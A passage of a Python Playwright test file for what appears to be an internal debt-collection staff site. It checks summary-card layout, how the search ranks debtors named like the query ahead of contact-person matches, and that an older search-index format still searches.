        const dd = [...document.querySelectorAll('.summary dd')].find(d => d.textContent.includes('EUR'));
        dd.textContent = 'EUR 71.442.422,10';
        const range = document.createRange();
        range.selectNodeContents(dd);
        const tops = new Set([...range.getClientRects()].map(r => Math.round(r.top)));
        const card = dd.parentElement;
        return [tops.size, card.scrollWidth - card.clientWidth, document.scrollingElement.scrollWidth];
    }"""
    )
    context.close()
    assert lines == 1
    assert overflow <= 0 and wide <= width


def test_one_word_finds_the_debtors_named_so_before_their_contact_persons_and_says_where(opened, tmp_path):
    # "jansen" typed: two shops whose contact person is a Jansen came first (their stage is further on), the
    # garage named Jansen after them, and nothing said why a "Kapsalon Smit" was found.
    from pelican.plugins.incasso.staff import STATIC
    from tests.support.ledgers import event, invoice, valid_creditor, valid_debtor, write_ledger

    debtors = [
        valid_debtor(id=f"S-{n}", name=name, invoices=[invoice(number=f"F{n}")], **{"contact.person": person})
        for n, name, person in (
            (1, "Kapsalon Smit", "Anna Jansen"),
            (2, "Bloemist Visser", "Piet Jansen"),
            (3, "Autobedrijf Jansen", "Kees Bos"),
            (4, "Bakkerij Mulder", "Els de Wit"),
        )
    ]
    for debtor in debtors[:2]:
        debtor["events"] = [event(AS_OF.replace(month=2, day=10), "reminder", channel="email")]
    debtors[2]["invoices"] = [invoice(number="F3", due="2026-10-01")]
    root = write_ledger(tmp_path / "ledger", creditor=valid_creditor(interest="none"), debtors=debtors)
    books = read_books(root, AS_OF)
    claims = [assess(books.ledger, d, AS_OF) for d in books.ledger.debtors]
    book = staff_book(claims, books.ledger.creditor, AS_OF, "", lambda c: f"s/{c.debtor.id}/")
    internal = tmp_path / "internal"
    internal.mkdir()
    write_overview(staff_environment(str(REPO / "theme")), book, internal)
    shutil.copytree(REPO / "theme" / STATIC, internal / "static")
    opened.goto((internal / "index.html").as_uri())
    assert table_ids(opened).index("S-3") > table_ids(opened).index("S-2")  # after them in the overview's order
    opened.locator("#claims-filter").fill("jansen")
    assert found_ids(opened) == ["S-3", "S-1", "S-2"]
    heads = opened.locator("#found-table tr.group")
    assert heads.first.inner_text().startswith("In de naam van de debiteur")
    assert heads.first.inner_text().endswith("1 gevonden")
    said = opened.eval_on_selector_all(
        "#found-table tr.claim", "rows => rows.map(r => (r.querySelector('.matched') || {}).textContent || '')"
    )
    assert said == ["", "Gevonden in: contactpersoon", "Gevonden in: contactpersoon"]
    opened.locator("#claims-filter").fill("ergens")  # in every dossier's address: said, nothing put first
    assert opened.locator("#found-table tr.group.named").count() == 0
    assert opened.locator("#found-table .matched").first.inner_text() == "Gevonden in: adres"


@pytest.mark.parametrize("width", [1024, 1280])
def test_the_summary_cards_stand_in_one_row_each_figure_on_one_line(browser, demo_site, width):
    """s50: at 1024 px the sixth card ("Te koppelen betalingen") fell to a row of its own, as wide as the page, and
    "5 van de 6 van vandaag" took two lines as a figure: the figure is now "5", the day's letters under it."""
    context = browser.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    page.goto((demo_site.internal / "index.html").as_uri())
    cards = page.locator(".summary > div").evaluate_all(
        """cards => cards.map(card => {
            const figure = card.querySelector('dd');
            const line = parseFloat(getComputedStyle(figure).lineHeight);
            return {top: card.getBoundingClientRect().top, right: card.getBoundingClientRect().right,
                    lines: Math.round(figure.getBoundingClientRect().height / line), text: figure.innerText,
                    label: card.querySelector('dt').innerText};
        })"""
    )
    context.close()
    assert len(cards) == 6, cards
    assert len({round(c["top"]) for c in cards}) == 1, cards  # one row
    assert all(c["lines"] == 1 for c in cards), cards
    assert max(c["right"] for c in cards) <= width, cards
    # Found by its label: its figure ("5" of the day's 6 when s50 wrote this, "1" of 2 now) matched another card's.
    letters = next(c for c in cards if c["label"].strip().startswith("Brieven te versturen"))
    assert letters["lines"] == 1


@pytest.mark.parametrize("typed, found", [("3511 ZH", ["D-1014"]), ("jan smit", ["D-1011", "D-1018"])])
def test_an_index_written_before_its_fields_had_a_break_of_their_own_still_searches(
    browser, demo_site, tmp_path, typed, found
):
    # A browser may keep last night's search index beside a new staff.js: one written before session 63 names no
    # `between`, its fields one a line. The same search finds the same dossiers in it.
    internal = shutil.copytree(demo_site.internal, tmp_path / "internal")
    index = internal / SEARCH_INDEX
    data = read_index(index.read_text(encoding="utf-8"))
    between = data.pop("between")
    for row in data["rows"]:
        row[11] = row[11].replace(between, "\n")
    index.write_text(_START + _js_string(json.dumps(data, ensure_ascii=False)) + _END, encoding="utf-8")
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto((internal / "index.html").as_uri())
    page.locator("#claims-filter").fill(typed)
    assert found_ids(page) == found
    context.close()
    assert errors == []
